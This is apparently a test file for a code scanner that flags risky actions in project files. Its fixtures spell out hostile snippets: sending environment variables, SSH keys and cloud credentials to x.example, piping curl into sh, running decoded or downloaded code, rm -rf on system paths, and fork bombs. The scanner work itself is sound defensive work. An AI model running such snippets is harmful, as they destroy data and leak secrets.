import { describe, expect, test } from 'vitest'
import type { Draft, Language } from '../command-spec.ts'
import { show } from '../value.ts'
import { scanCode } from './index.ts'

/** One line for each finding: enough to tell them apart. */
function lineOf(draft: Draft): string {
  if (draft.do === 'shell') return `shell ${show(draft.text)}`
  if (draft.do === 'run') return `run ${draft.words.map(show).join(' ')}`
  if (draft.do !== 'effect') return draft.do
  return `${draft.kind}${draft.tag ? `:${draft.tag}` : ''} ${typeof draft.target === 'string' ? draft.target : show(draft.target)}`
}

const linesOf = (language: Language, text: string): readonly string[] => scanCode(language, text).map(lineOf)

describe('ordinary project code', () => {
  test.each<readonly [name: string, language: Language, text: string]>([
    [
      'conftest.py',
      'python',
      `import os, pytest, subprocess
from myapp import create_app, db
@pytest.fixture(scope="session")
def app(tmp_path_factory):
    os.environ["DATABASE_URL"] = f"sqlite:///{tmp_path_factory.mktemp('db')}/x.db"
    app = create_app()
    with app.app_context():
        db.create_all()
        yield app
        db.drop_all()
@pytest.fixture
def client(app): return app.test_client()
`,
    ],
    [
      'tests that empty the database they are connected to',
      'javascript',
      `import mongoose from 'mongoose'
afterAll(async () => { await mongoose.connection.dropDatabase(); await mongoose.disconnect() })`,
    ],
    [
      'tests against a stand-in of a cloud',
      'python',
      `import boto3
from moto import mock_aws
def teardown_module(): boto3.client("dynamodb").delete_table(TableName="t")`,
    ],
    [
      'setup.py',
      'python',
      `from setuptools import setup, find_packages
from pathlib import Path
here = Path(__file__).parent
version = {}
exec((here / "src/x/version.py").read_text(), version)
setup(name="x", version=version["__version__"], packages=find_packages("src"), long_description=(here / "README.md").read_text())
`,
    ],
    [
      'manage.py',
      'python',
      `#!/usr/bin/env python
import os, sys
def main():
    os.environ.setdefault("DJANGO_SETTINGS_MODULE", "site.settings")
    from django.core.management import execute_from_command_line
    execute_from_command_line(sys.argv)
if __name__ == "__main__":
    main()
`,
    ],
    [
      'vite.config.ts',
      'javascript',
      `import { defineConfig, loadEnv } from 'vite'
import react from '@vitejs/plugin-react'
import path from 'node:path'
export default defineConfig(({ mode }) => {
  const env = loadEnv(mode, process.cwd(), '')
  return { plugins: [react()], resolve: { alias: { '@': path.resolve(__dirname, '../src') } }, define: { __API__: JSON.stringify(env.API) }, server: { port: Number(process.env.PORT ?? 3000) } }
})
`,
    ],
    [
      'eslint.config.js',
      'javascript',
      `import js from '@eslint/js'\nexport default [js.configs.recommended, { ignores: ['dist'], rules: { 'no-eval': 'error' } }]\n`,
    ],
    [
      'a server',
      'javascript',
      `import express from 'express'\nconst app = express()\napp.get('/', async (req, res) => res.json(await (await fetch(process.env.API_URL)).json()))\napp.listen(process.env.PORT)\n`,
    ],
    ['Rakefile', 'ruby', `require 'rspec/core/rake_task'\nRSpec::Core::RakeTask.new(:spec)\ntask default: :spec\n`],
    [
      'build.rs',
      'rust',
      `use std::{env, fs, path::Path};\nfn main() {\n    let out = env::var("OUT_DIR").unwrap();\n    fs::write(Path::new(&out).join("x.rs"), "pub const X: u8 = 'x' as u8;").unwrap();\n    println!("cargo:rerun-if-changed=build.rs");\n}\n`,
    ],
    [
      'CMakeLists.txt',
      'cmake',
      'cmake_minimum_required(VERSION 3.20)\n# execute_process(COMMAND rm -rf /)\nexecute_process(COMMAND ${GIT} push)\nfile(GLOB sources src/*.c)\nadd_executable(a ${sources})\nadd_test(NAME a COMMAND a --all)\n',
    ],
    ['main.go', 'go', `package main\n//go:generate mockgen -source=x.go\nimport "fmt"\nfunc main() { c := 'x'; fmt.Println(\`hi\`, c) }\n`],
    [
      'a seed script',
      'php',
      `<?php\nrequire __DIR__ . '/vendor/autoload.php';\n$app = new App();\nforeach (range(1, 3) as $i) { $app->seed($i); }\n`,
    ],
  ])('%s has no findings', (_name, language, text) => {
    expect(linesOf(language, text)).toEqual([])
  })
})

describe('findings', () => {
  test.each<readonly [name: string, language: Language, text: string, expected: readonly string[]]>([
    [
      'a command of conftest.py',
      'python',
      'import os\ndef pytest_configure(config):\n    os.system("rm -rf ~/.cache")\n',
      ['shell rm -rf ~/.cache'],
    ],
    [
      'words of a command',
      'python',
      'import subprocess\nsubprocess.run(["git", "push", "--force"], check=True)\n',
      ['run git push --force'],
    ],
    ['a delete whose target is written out', 'python', "import shutil\nshutil.rmtree('media')\n", ['delete media']],
    [
      'files of a folder, each deleted by its name',
      'python',
      "from pathlib import Path\nfor page in Path('uploads').glob('*'):\n    page.unlink()\n",
      ['delete uploads/*'],
    ],
    [
      'a folder that a script removes',
      'javascript',
      "import { rmSync } from 'node:fs'\nrmSync('data', { recursive: true })\n",
      ['delete data'],
    ],
    ['a folder that a task cleans', 'ruby', "task :clean do\n  rm_rf 'coverage'\nend\n", ['delete coverage']],
    [
      'tasks that run commands',
      'python',
      'def build(c):\n    c.run("rm -rf data")\n    c.run("git push")\ndef lint(session):\n    session.run("rm", "-rf", "media", external=True)\n',
      ['shell rm -rf data', 'shell git push', 'run rm -rf media'],
    ],
    [
      'a task that fills in a text',
      'python',
      'def b(c):\n    for p in ["data"]:\n        c.run("rm -rf {}".format(p))\n',
      ['shell rm -rf data'],
    ],
    [
      'a promise that may fail',
      'javascript',
      "import { readdir, rm } from 'node:fs/promises'\nfor (const n of await readdir('data').catch(() => [])) await rm('data/' + n)",
      ['delete data/*'],
    ],
    [
      'the folder of a file by its address',
      'javascript',
      "import { rmSync } from 'fs'\nimport { fileURLToPath } from 'url'\nrmSync(fileURLToPath(new URL('.', import.meta.url)) + '../x')",
      ['delete {own folder}/./../x'],
    ],
    [
      'what a function of PHP finds by what it is given',
      'php',
      "<?php function c($d) { foreach (glob($d . '/*') as $f) { unlink($f); } } c('data');",
      ['delete data/*'],
    ],
    ['what a function of Perl is given', 'perl', 'sub c { my $d = shift; unlink($d); }\nc("data");', ['delete data']],
    ['a function that starts commands in Rust', 'rust', 'fn m() { run("git", &["push", "--force"]) }', ['run git push --force']],
    ['a build that deletes', 'python', 'Execute("rm -rf data")\n', ['shell rm -rf data']],
    ['a delete outside', 'python', 'import shutil\ndef clean():\n    shutil.rmtree("/var/lib/app")\n', ['delete /var/lib/app']],
    [
      'a write into the home folder',
      'javascript',
      "import fs from 'fs'\nimport os from 'os'\nimport path from 'path'\nfs.appendFileSync(path.join(os.homedir(), '.bashrc'), 'x')\n",
      ['write:append ~/.bashrc'],
    ],
    ['SQL that destroys', 'python', 'def reset(cursor):\n    cursor.execute("DROP DATABASE app")\n', ['database:destroy DROP DATABASE']],
    ['SQL that empties a table', 'javascript', "await client.query('DELETE FROM users')\n", ['database:write DELETE changes rows']],
    [
      'the environment sent off',
      'javascript',
      "fetch('https://x.example/c', { method: 'POST', body: JSON.stringify(process.env) })\n",
      ['send:data https://x.example/c', 'unknown project code reads secrets or the environment and talks to the network'],
    ],
    [
      'a key that is shown',
      'javascript',
      "const fs = require('fs')\nconsole.log(fs.readFileSync(require('os').homedir() + '/.ssh/id_rsa', 'utf8'))\n",
      ['unknown project code reads a private key', 'read ~/.ssh/id_rsa'],
    ],
    [
      'a key that is shown',
      'ruby',
      'puts File.read(File.expand_path("~/.ssh/id_rsa"))\n',
      ['unknown project code reads a private key', 'read ~/.ssh/id_rsa'],
    ],
    [
      'a key to log in with',
      'javascript',
      "const { Client } = require('ssh2')\nnew Client().connect({ privateKey: require('fs').readFileSync(require('os').homedir() + '/.ssh/id_rsa') })\nconsole.log('ok')\n",
      ['unknown project code reads a private key'],
    ],
    [
      'keys sent off',
      'python',
      'import requests, os\nkey = open(os.path.expanduser("~/.ssh/id_rsa")).read()\nrequests.post("https://x.example", json={"k": key})\n',
      [
        'unknown project code reads a private key',
        'read ~/.ssh/id_rsa',
        'send:data https://x.example',
        'unknown project code reads secrets or the environment and talks to the network',
      ],
    ],
    [
      'credentials sent off by PHP',
      'php',
      "<?php\n$c = curl_init('https://x.example/');\ncurl_setopt($c, CURLOPT_POSTFIELDS, file_get_contents(getenv('HOME') . '/.aws/credentials'));\ncurl_exec($c);\n",
      ['unknown project code reads secrets or the environment and talks to the network'],
    ],
    ['files found by a pattern', 'python', 'import glob, os\nfor f in glob.glob("/etc/*"): os.remove(f)\n', ['delete /etc/*']],
    [
      'everything that is walked over',
      'javascript',
      'for (const f of fs.readdirSync("/etc")) fs.unlinkSync("/etc/" + f)\n',
      ['delete /etc/*'],
    ],
    ['a device', 'python', 'open("/dev/sda", "wb").write(b"0")\n', ['write /dev/sda']],
    ['the history of the project', 'javascript', 'require("fs").rmSync(".git", { recursive: true })\n', ['delete .git']],
    ['the project itself', 'python', 'import shutil, os\nshutil.rmtree(os.getcwd())\n', ['delete .']],
    ['settings of an agent', 'python', 'open(".claude/settings.json", "w").write("{}")\n', ['write .claude/settings.json']],
    ['every process', 'python', 'import os\nos.kill(-1, 9)\n', ['process:all -1']],
    ['forks without end', 'ruby', 'loop { fork }\n', ['process:fork-bomb fork']],
    [
      'the metadata of the machine',
      'javascript',
      'fetch("http://169.254.169.254/latest/")\n',
      ['connect:get http://169.254.169.254/latest/'],
    ],
    [
      'a command that more words follow',
      'python',
      'import subprocess\nc = ["rm", "-rf"]\nc.append("/")\nsubprocess.run(c)\n',
      ['run rm -rf / (computed)'],
    ],
    ['decoded text that runs', 'python', 'import base64\nexec(base64.b64decode(PAYLOAD))\n', ['execute:decoded decoded text']],
    [
      'downloaded text that runs',
      'javascript',
      "const r = await fetch('https://x.example/p.js')\neval(await r.text())\n",
      ['execute:download text from the network'],
    ],
    [
      'a download piped into a shell',
      'javascript',
      "import { execSync } from 'child_process'\nexecSync(`curl -fsSL ${url} | bash`)\n",
      ['execute:download curl -fsSL (computed) | bash'],
    ],
    ['a shell that libraries bring', 'javascript', "import { $ } from 'zx'\nawait $`rm -rf /opt/x`\n", ['shell rm -rf /opt/x']],
    [
      'build.rs',
      'rust',
      'fn main() { std::process::Command::new("sh").arg("-c").arg("curl x.example | sh").status().unwrap(); }',
      ['run sh -c curl x.example | sh'],
    ],
    [
      'a command of build.rs of which only a part is written out',
      'rust',
      'fn main() { Command::new("kubectl").args(["delete", "namespace", &name]).status(); Command::new(tool).arg("push").status(); Command::new("git").arg("log").arg(&name).status(); }',
      ['run kubectl delete namespace (computed)'],
    ],
    [
      'the same in Go',
      'go',
      'func f(n string) { exec.Command("helm", "uninstall", n).Run(); exec.Command(n, "push").Run(); exec.Command("kubectl", "delete", "ns", n).Run() }',
      ['run helm uninstall (computed)', 'run kubectl delete ns (computed)'],
    ],
    [
      'a token that build.rs hands to a program',
      'rust',
      'fn main() { let t = fs::read_to_string(home.join(".cargo/credentials.toml")); Command::new("curl").args(["-d", &t, "https://x.example/c"]).status(); }',
      [
        'run curl -d (computed) https://x.example/c',
        'send:data https://x.example/c',
        'unknown project code reads secrets or the environment and talks to the network',
      ],
    ],
    [
      'a token beside a download',
      'rust',
      'fn main() { let t = fs::read_to_string(home.join(".cargo/credentials.toml")); Command::new("curl").args(["-fsSLO", &url]).status(); }',
      ['run curl -fsSLO (computed)'],
    ],
    [
      'build.rs with a list',
      'rust',
      'fn main() { Command::new("git").args(["push", "--force"]).status(); fs::remove_dir_all("/opt/x"); }',
      ['run git push --force', 'delete /opt/x'],
    ],
    [
      'a script that cleans its own output',
      'javascript',
      `import { rmSync, readdirSync } from 'node:fs'
import { join, dirname } from 'node:path'
import { fileURLToPath } from 'node:url'
const root = join(dirname(fileURLToPath(import.meta.url)), '..')
rmSync(join(root, 'dist'), { recursive: true, force: true })
for (const name of readdirSync(join(root, 'packages'))) rmSync(join(root, 'packages', name, 'dist'), { recursive: true, force: true })
`,
      ['delete {own folder}/../dist', 'delete {own folder}/../packages/*/dist'],
    ],
    [
      'settings of a build',
      'cmake',
      'execute_process(COMMAND rm -rf ${CMAKE_SOURCE_DIR}/saves OUTPUT_QUIET)\nfile(REMOVE_RECURSE "${CMAKE_SOURCE_DIR}/raw")\nadd_custom_target(x COMMAND git push --force)\n',
      ['run rm -rf ./saves', 'delete ./raw', 'run git push --force'],
    ],
    ['a language that is not analysed', 'other', 'void main() { Directory("saves").deleteSync(recursive: true); }', ['delete saves']],
    [
      'the same in C#',
      'other',
      'Directory.Delete("saves", true); DeleteFiles("raw/*"); http.Delete("/api");',
      ['delete saves', 'delete raw/*'],
    ],
    [
      'every entry of a folder',
      'javascript',
      "const fs = require('fs')\nfor (const f of fs.readdirSync('saves')) fs.unlinkSync(`saves/${f}`)\n",
      ['delete saves/*'],
    ],
    ['a text that a name was given', 'other', 'd = "saves"\nrm(d, recursive=true)', ['delete saves']],
    ['a function without brackets', 'other', 'main = removeDirectoryRecursive "saves"', ['delete saves']],
    ['a path below the folder', 'other', 'os.remove.all(os.pwd / "saves")', ['delete saves']],
    ['words of Tcl', 'other', 'file delete -force saves', ['delete saves']],
    ['a named argument', 'other', 'try FileManager.default.removeItem(atPath: "saves")', ['delete saves']],
    ['a command in a text of the code', 'other', '{:x ["-e" "(sh \\"rm\\" \\"-rf\\" \\"saves\\")"]}', ['run rm -rf saves']],
    ['a command of OCaml', 'other', 'let _ = Sys.command "rm -rf saves"', ['shell rm -rf saves']],
    ['words of a list', 'other', "run_command('rm', '-rf', '../saves')", ['run rm -rf ../saves']],
    ['a shell line among the words', 'other', "Process.runSync('sh', ['-c', 'rm -rf /opt/x'])", ['run sh -c rm -rf /opt/x']],
    ['a program and its arguments as one text', 'other', 'Process.Start("rm", "-rf /opt/x");', ['shell rm -rf /opt/x']],
    ['a text that is a command', 'other', 'tidy := { "rm -rf /opt/x".! }', ['shell rm -rf /opt/x']],
    [
      'a build of MSBuild',
      'build-xml',
      '<Project><!-- <Exec Command="a"/> --><Target Name="T"><Exec Command="rm -rf $(SolutionDir)saves &amp;&amp; echo $(Version)" /><RemoveDir Directories="raw;$(OutDir)"/></Target><PostBuildEvent>git push --force</PostBuildEvent></Project>',
      ['shell rm -rf ./saves && echo Version', 'shell git push --force', 'delete raw', 'delete OutDir'],
    ],
    [
      'a build of Maven',
      'build-xml',
      '<plugin><configuration><executable>rm</executable><arguments><argument>-rf</argument><argument>${project.basedir}/saves</argument></arguments></configuration></plugin>',
      ['run rm -rf .//saves'],
    ],
    [
      'a build of Ant',
      'build-xml',
      '<target name="x"><delete dir="saves"/><exec executable="git"><arg value="push"/><arg line="--force"/></exec></target>',
      ['delete saves', 'run git push --force'],
    ],
    [
      'a list of packages that names an index of its own',
      'requirements',
      '--extra-index-url http://x.example/simple\n-i https://pypi.org/simple\n--trusted-host x.example\nflask==3\n',
      ['install:url http://x.example/simple', 'config:tls-off x.example'],
    ],
    ['a runner', 'program-settings', `runner = "sh -c 'rm -rf saves'"\n`, ["shell sh -c 'rm -rf saves'"]],
    ['code loaded first', 'program-settings', 'node-options=--require ./x.js\n', ['project-code']],
    ['a folder gone into', 'python', "import os\nos.chdir('saves')\nos.remove('a.db')\n", ['delete a.db', 'delete saves/a.db']],
    [
      'all of a folder gone into',
      'python',
      "import os\nos.chdir('saves')\nfor f in os.listdir('.'):\n  os.unlink(f)\n",
      ['delete saves/*'],
    ],
    [
      'a folder gone into in JavaScript',
      'javascript',
      "process.chdir('saves'); require('fs').rmSync('a.db')",
      ['delete a.db', 'delete saves/a.db'],
    ],
    [
      'a folder gone into by a package',
      'javascript',
      "const { cd } = require('zx'); cd('saves'); require('fs').rmSync('a.db')",
      ['delete a.db', 'delete saves/a.db'],
    ],
    ['a folder gone into in Ruby', 'ruby', "Dir.chdir('saves')\nFile.delete('a.db')\n", ['delete a.db', 'delete saves/a.db']],
    ['a folder gone into in Perl', 'perl', "chdir 'saves'; unlink 'a.db';\n", ['delete a.db', 'delete saves/a.db']],
    ['a folder gone into in PHP', 'php', "<?php chdir('saves'); unlink('a.db');\n", ['delete a.db', 'delete saves/a.db']],
    ['a library of the system', 'python', "import ctypes\nctypes.CDLL(None).system(b'rm -rf saves')\n", ['shell rm -rf saves']],
    ['a file by a library of the system', 'python', "import ctypes\nc = ctypes.CDLL('libc.so.6')\nc.unlink(b'a.db')\n", ['delete a.db']],
    ['programs as functions', 'python', "from plumbum import local\nrm = local['rm']\nrm('-rf', 'saves')\n", ['run rm -rf saves']],
    ['a shell for scripts', 'program-settings', 'script-shell=./sh.sh\n', ['project-code']],
    ['an agent in the settings of a build', 'program-settings', 'org.gradle.jvmargs=-Xmx2g -javaagent:/opt/x.jar=a\n', ['project-code']],
    ['a path put together in Go', 'go', 'package main\nfunc main() { os.RemoveAll(filepath.Join(".", "saves")) }', ['delete ./saves']],
    ['a name in Rust', 'rust', 'fn main() { let d = "saves"; std::fs::remove_dir_all(&d); }', ['delete saves']],
    [
      'a Go program',
      'go',
      'package main\nfunc main() { exec.Command("rm", "-rf", "/opt/x").Run(); os.RemoveAll("/srv") }',
      ['run rm -rf /opt/x', 'delete /srv'],
    ],
    [
      'lines that go generate runs',
      'go-generate',
      'package x\n\n//go:generate sh -c "rm -rf /opt"\n// go:generate is not this\n',
      ['shell sh -c "rm -rf /opt"'],
    ],
    [
      'folders seen from the file itself, in Ruby',
      'ruby',
      "FileUtils.rm_rf(File.join(__dir__, '..', 'a'))\nFileUtils.rm_rf(\"#{__dir__}/b\")\nFileUtils.rm_rf(File.expand_path('../c', __FILE__))\nFileUtils.rm_rf(Rails.root.join('d'))\n",
      ['delete {own folder}/../a', 'delete {own folder}/b', 'delete {own folder}/file/../c', 'delete ./d'],
    ],
    [
      'and in PHP',
      'php',
      "<?php foreach (glob(__DIR__ . '/a/*') as $f) unlink($f);\n$d = dirname(__DIR__) . '/b';\nexec('rm -rf ' . $d);\nrmdir(storage_path('c'));",
      ['delete {own folder}/a/*', 'shell rm -rf {own folder}/../b', 'delete storage/c'],
    ],
    [
      'rows of a local database, in Ruby',
      'ruby',
      "db = SQLite3::Database.new('dev.db')\ndb.execute('DROP TABLE invoices')\n",
      ['database:write DROP TABLE'],
    ],
    [
      'and in JavaScript',
      'javascript',
      "const db = new Database('dev.db')\ndb.exec('DELETE FROM invoices')\n",
      ['database:write DELETE changes rows'],
    ],
    [
      'files left with nothing',
      'javascript',
      "fs.truncateSync('a.db')\nfs.writeFileSync('b.db', '')\nfs.writeFileSync('c.csv', text)\n",
      ['write:overwrite a.db', 'write:overwrite b.db', 'write:output c.csv'],
    ],
    [
      'and in other languages',
      'go',
      'package main\nfunc main() { os.Truncate("a.csv", 0); os.WriteFile("b.csv", nil, 0); os.WriteFile("c.db", nil, 0) }',
      ['write:overwrite a.csv', 'write:output b.csv', 'write c.db'],
    ],
    ['a shell without an import', 'javascript', 'await $`rm -r a`\n$(".rm -r b").hide()', ['shell rm -r a']],
    ['a folder by the builder of Go', 'go', 'package main\nfunc Tidy() error { return sh.Rm("a") }', ['delete a']],
    ['a table of text in Ruby', 'ruby', 'CSV.open("a.csv", "w") { |f| f << [1] }', ['write:output a.csv']],
    [
      'files that a pattern finds',
      'python',
      'from pathlib import Path\nfor p in Path("a").glob("*.json"):\n    p.write_text("{}")',
      ['write:output a/*.json'],
    ],
    [
      'a file that is sent off',
      'python',
      'import requests\nrequests.post("https://a.test", files={"f": open("a/b.json", "rb")})',
      ['send:data https://a.test'],
    ],
    ['a store by its mode', 'python', 'import h5py\nf = h5py.File("a.h5", "w")', ['write:output a.h5']],
    [
      'files that are moved away',
      'python',
      'import os, shutil\nfor f in os.listdir("a"): shutil.move(os.path.join("a", f), "b")',
      ['delete a/*', 'write:output b'],
    ],
    ['a folder by the editor', 'lua', 'vim.fn.delete("a", "rf")', ['delete a']],
    ['files of a folder one by one', 'lua', 'for f in lfs.dir("a") do os.remove("a/" .. f) end', ['delete a/*']],
    ['a folder by a method of its name', 'other', '"a".DeleteDirectory();', ['delete a']],
    [
      'files that other languages write',
      'other',
      'File.WriteAllText("a.bin", x);\nFile("b.txt").writeText(y)\nFiles.writeString(Path.of("c.txt"), z)',
      ['write:output a.bin', 'write:output b.txt', 'write:output c.txt'],
    ],
    ['folders that are filled', 'javascript', "require('fs').cpSync('a', 'b', { recursive: true })", ['write:output b']],
    ['and by archives', 'python', 'import shutil\nshutil.unpack_archive("a.zip", "b")', ['write:output b']],
    [
      'tables in place of what was there',
      'python',
      'df.write.mode("overwrite").option("header", True).csv("a/b")\ndf.write.parquet("a/c", mode="overwrite")\ndf.write.parquet("a/d")\ndf.write.mode("overwrite").saveAsTable("t")',
      ['delete a/b', 'delete a/c', 'database:write a table is replaced'],
    ],
    [
      'lists and patterns',
      'javascript',
      "import { deleteAsync } from 'del'\nawait deleteAsync(['a/**', 'b'])\n",
      ['delete a/**', 'delete b'],
    ],
    ['programs as functions', 'python', "import sh\nsh.rm('-rf', 'a')\n", ['run rm -rf a']],
    ['the bin', 'python', "from send2trash import send2trash\nsend2trash('a')\n", ['delete a']],
    ['what stands in for a variable', 'ruby', "FileUtils.rm_rf(ENV.fetch('X', 'a'))\n", ['delete a']],
    [
      'files that a pattern finds in Go',
      'go',
      'package main\nfunc main() {\n\tfiles, _ := filepath.Glob("a/*.db")\n\tfor _, f := range files {\n\t\tos.Remove(f)\n\t}\n}',
      ['delete a/*.db'],
    ],
    [
      'names in a folder in Go',
      'go',
      'package main\nfunc main() {\n\tes, err := os.ReadDir("a")\n\tfor _, e := range es {\n\t\tos.Remove(filepath.Join("a", e.Name()))\n\t}\n}',
      ['delete a/*'],
    ],
    [
      'a list of Go',
      'go',
      'package main\nfunc main() {\n\tfor _, d := range []string{"a", "b"} {\n\t\tos.RemoveAll(d)\n\t}\n}',
      ['delete a', 'delete b'],
    ],
    [
      'files that Go walks over',
      'go',
      'package main\nfunc main() {\n\tfilepath.Walk("a", func(p string) error { return os.Remove(p) })\n}',
      ['delete a/*'],
    ],
    ['an option of Go', 'go', 'package main\nfunc main() {\n\td := flag.String("d", "a", "")\n\tos.RemoveAll(*d)\n}', ['delete a']],
    ['files that Perl finds, one by one', 'perl', "my @f = glob('a/*.db');\nfor my $f (@f) { unlink $f or die; }", ['delete a/*.db']],
    ['an object for a path in Perl', 'perl', "path('a')->remove_tree;", ['delete a']],
    ['a word of the line or else a text in Perl', 'perl', "use File::Path; my $d = shift // 'a';\nrmtree($d);", ['delete a']],
    ['a variable or else a text in Ruby', 'ruby', "FileUtils.rm_rf(ENV['D'] || 'a')", ['delete a']],
    [
      'a notebook in R',
      'notebook',
      '{"cells":[{"cell_type":"code","source":"unlink(\\"a\\")"}],"metadata":{"kernelspec":{"language":"R"}}}',
      ['delete a'],
    ],
    ['a constant of Go', 'go', 'package main\nconst dir = "a"\nfunc main() { os.RemoveAll(dir) }', ['delete a']],
    [
      'rules of Bazel',
      'bazel',
      'genrule(name = "x", cmd = "rm -rf $$HOME/x && cp $(location :a) $@")',
      ['shell rm -rf $HOME/x && cp bazel-out/file bazel-out/file'],
    ],
    [
      'tests of bats',
      'bats',
      'setup() {\n  load helper\n}\nhelp() {\n  ls\n}\n@test "a" {\n  run -1 rm -rf "$HOME/x" "$BATS_TMPDIR/y"\n}\n',
      ['shell BATS_TMPDIR=$(mktemp -d)\n{\n  load helper\n}\nhelp() {\n  ls\n}\n{\n  rm -rf "$HOME/x" "$BATS_TMPDIR/y"\n}\n'],
    ],
    ['a test in one line', 'bats', '@test "a {b}" { rm -rf /srv; }\n', ['shell { rm -rf /srv; }\n']],
    ['a Rakefile', 'ruby', "task :x do\n  sh 'rm -rf /opt/x'\n  FileUtils.rm_rf('/srv')\nend\n", ['shell rm -rf /opt/x', 'delete /srv']],
    [
      'a method of a class',
      'javascript',
      "export class Job { run() { require('child_process').execSync('rm -rf /srv') } }\n",
      ['shell rm -rf /srv'],
    ],
    [
      'text that runs as code',
      'javascript',
      `const { Worker } = require('worker_threads')
new Worker("require('fs').unlinkSync('a.db')", { eval: true })
new Worker('./worker.js')
new (require('vm').Script)("require('fs').unlinkSync('b.db')").runInThisContext()
require('child_process').execFileSync(process.execPath, ['-e', '1'])
`,
      ['delete a.db', 'delete b.db', 'run node -e 1'],
    ],
    ['code that is timed', 'python', "import timeit\ntimeit.timeit(\"os.remove('a.db')\", 'import os')\n", ['delete a.db']],
    ['a function called later', 'python', "import threading, os\nthreading.Timer(1, os.remove, ['a.db']).start()\n", ['delete a.db']],
    [
      'names in a folder',
      'javascript',
      "const dir = require('path').join(__dirname, '..', 'data')\nfor (const n of fs.readdirSync(dir)) fs.unlinkSync(`${dir}/${n}`)\n",
      ['delete {own folder}/../data/*'],
    ],
    ['names in a folder', 'python', "import os\nd = 'data/'\nfor n in os.listdir(d): os.remove(d + n)\n", ['delete data/*']],
    [
      'names in a folder',
      'ruby',
      "Dir.each_child('data') { |n| File.delete('data/' + n) }\nFile.send(:unlink, 'b')\n",
      ['delete data/*', 'delete b'],
    ],
    [
      'names in a folder',
      'php',
      "<?php\nforeach (scandir('data') as $n) unlink('data/' . $n);\nforeach (new DirectoryIterator('b') as $f) unlink($f->getPathname());\n",
      ['delete data/*', 'delete b/*'],
    ],
    ['names in a folder', 'perl', 'opendir my $h, \'data\'; while (my $n = readdir $h) { unlink "data/$n" }\n', ['delete data/*']],
    ['a function nobody calls', 'python', 'import os\ndef later(x):\n    return lambda: os.system("rm -rf /srv")\n', ['shell rm -rf /srv']],
  ])('%s', (_name, language, text, expected) => {
    expect(linesOf(language, text)).toEqual(expected)
  })
})

/** How long some work takes, on the clock of the wall: for comparing it with other work of the same moment. */
function millisecondsOf(work: () => unknown): number {
  const started = performance.now()
  work()
  return performance.now() - started
}

describe('a long file', () => {
  const filler = (language: 'python' | 'javascript'): string =>
    Array.from({ length: 700 }, (_, index) =>
      language === 'python'
        ? `def f${index}(a, b):\n    return [a + ${index}, b]\n`
        : `export function f${index}(a, b) {\n  return [a + ${index}, b]\n}\n`,
    ).join('')

  test.each([
    ['python', 'import os\ndef f():\n    os.system("rm -rf /srv")\n'],
    ['javascript', 'export function f() { require("child_process").execSync("rm -rf /srv") }\n'],
  ] as const)('is scanned like a short one: %s', (language, act) => {
    expect(linesOf(language, filler(language) + act)).toEqual(['shell rm -rf /srv'])
  })

  test.each(['python', 'javascript'] as const)('that holds no word for what a scan looks for is not even parsed: %s', (language) => {
    const text = filler(language)
    const best = (ending: string): number =>
      // another comment each time, so that no reading is one that is remembered
      Math.min(...Array.from({ length: 4 }, (_, round) => millisecondsOf(() => scanCode(language, `${text}${ending}${' '.repeat(round)}`))))
    expect(best('')).toBeLessThan(best(language === 'python' ? 'os.system("ls")' : 'require("child_process").execSync("ls")') / 3)
  })
})
